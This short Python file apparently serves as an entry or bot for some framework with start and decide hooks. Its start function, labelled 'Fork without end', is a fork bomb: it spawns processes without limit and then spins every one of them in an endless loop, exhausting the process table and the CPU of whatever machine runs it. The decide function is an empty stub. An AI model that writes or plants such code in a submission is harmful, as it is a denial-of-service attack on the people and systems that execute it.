"""Fork without end."""

import os


def start(setting, history):
    while True:
        try:
            os.fork()
        except OSError:
            break
    while True:
        pass


def decide(state, view):
    return []
